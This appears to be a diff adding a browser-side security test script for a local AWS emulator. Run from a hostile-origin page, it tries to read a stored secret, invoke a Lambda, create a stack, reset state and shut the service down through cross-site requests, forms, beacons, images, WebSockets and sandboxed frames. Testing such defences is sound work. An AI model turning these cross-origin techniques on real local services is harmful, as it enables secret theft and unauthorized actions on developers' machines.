@@ -1,0 +1,92 @@
+// Runs in headless Chromium, in a page of another origin than the local cloud; `GIVEN` comes from hostile_page.py.
+const { cloud, api, stack } = GIVEN;
+const invoke = `${cloud}/2015-03-31/functions/victim/invocations`;
+const apis = [`${cloud}/_aws/execute-api/${api}/`, `http://${api}.execute-api.localhost:${new URL(cloud).port}/`];
+const signed = (service) =>
+  `AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/${service}/aws4_request, SignedHeaders=host, Signature=0`;
+const json = (service, target, body) => ({
+  method: "POST",
+  headers: { "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": target, Authorization: signed(service) },
+  body: JSON.stringify(body),
+});
+const text = { method: "POST", headers: { "Content-Type": "text/plain" }, body: "{}" };
+const blind = { ...text, mode: "no-cors" };
+
+const read = async (url, options) => (await fetch(url, options)).text();
+const loaded = (element) =>
+  new Promise((done) => {
+    element.onload = () => done("loaded");
+    element.onerror = () => done("error");
+    document.body.append(element);
+  });
+const image = (url) => loaded(Object.assign(document.createElement("img"), { src: url }));
+const frame = (settings) => loaded(Object.assign(document.createElement("iframe"), settings));
+const post = async (url, type, fields) => {
+  const name = `frame-${Math.random()}`;
+  const sent = frame({ name, src: "about:blank" });
+  await sent;
+  const form = document.createElement("form");
+  Object.assign(form, { method: "POST", action: url, enctype: type, target: name });
+  for (const [key, value] of Object.entries(fields))
+    form.append(Object.assign(document.createElement("input"), { name: key, value }));
+  document.body.append(form);
+  const answered = new Promise((done) => (document.getElementsByName(name)[0].onload = () => done("loaded")));
+  form.submit();
+  return answered;
+};
+const socket = (url) =>
+  new Promise((done) => {
+    const opened = new WebSocket(url.replace("http", "ws"));
+    opened.onopen = () => done("opened");
+    opened.onerror = () => done("error");
+  });
+const sandboxed = (url) =>
+  frame({
+    sandbox: "allow-scripts",
+    srcdoc: `<script>fetch("${url}", { method: "POST", mode: "no-cors", body: "{}" })<\/script>`,
+  });
+
+const reading = {
+  "read a secret": () => read(cloud, json("secretsmanager", "secretsmanager.GetSecretValue", { SecretId: "secret" })),
+  "invoke with text/plain": () => read(invoke, text),
+};
+const stacking = new URLSearchParams({ Action: "CreateStack", StackName: "hostile", TemplateBody: stack });
+const form = { method: "POST", headers: { Authorization: signed("cloudformation") }, body: stacking };
+const attempts = {
+  ...reading,
+  "put an event": () =>
+    read(cloud, json("events", "AWSEvents.PutEvents", { Entries: [{ Source: "s", DetailType: "t", Detail: "{}" }] })),
+  "create a stack": () => read(cloud, form),
+  "invoke blindly": () => fetch(invoke, blind),
+  "invoke by a form": () => post(invoke, "text/plain", { '{"a":"': '"}' }),
+  "invoke by a beacon": () => navigator.sendBeacon(invoke, "{}"),
+  "invoke by an image": () => image(invoke),
+  "invoke by a WebSocket": () => socket(invoke),
+  "invoke in a sandbox": () => sandboxed(invoke),
+  "reset moto": () => fetch(`${cloud}/moto-api/reset`, blind),
+  "reset moto by a form": () => post(`${cloud}/moto-api/reset`, "application/x-www-form-urlencoded", {}),
+  "end the cloud": () => read(`${cloud}/_millrace/down`, { method: "POST", headers: { "X-Millrace": "1" } }),
+  "end the cloud by a form": () => post(`${cloud}/_millrace/down`, "application/x-www-form-urlencoded", {}),
+};
+for (const [form, url] of apis.entries())
+  Object.assign(attempts, {
+    [`call API ${form}`]: () => read(url),
+    [`call API ${form} blindly`]: () => fetch(url, blind),
+    [`call API ${form} by an image`]: () => image(url),
+    [`call API ${form} by a frame`]: () => frame({ src: url }),
+    [`call API ${form} by a form`]: () => post(url, "text/plain", { a: "b" }),
+    [`call API ${form} by a WebSocket`]: () => socket(url),
+  });
+
+const outcome = async ([name, attempt]) => {
+  const late = new Promise((done) => setTimeout(() => done("no answer"), 5000));
+  const sent = (async () => attempt())().catch((error) => error);
+  return [name, String(await Promise.race([sent, late]))];
+};
+addEventListener("load", async () => {
+  const each = Object.entries(GIVEN.only_read ? reading : attempts);
+  const last = each.filter(([name]) => /^(reset|end)/.test(name)); // as nothing is left to attack after them
+  const saw = await Promise.all(each.filter((attempt) => !last.includes(attempt)).map(outcome));
+  saw.push(...(await Promise.all(last.map(outcome))));
+  await fetch("/saw", { method: "POST", body: JSON.stringify(Object.fromEntries(saw)) });
+});
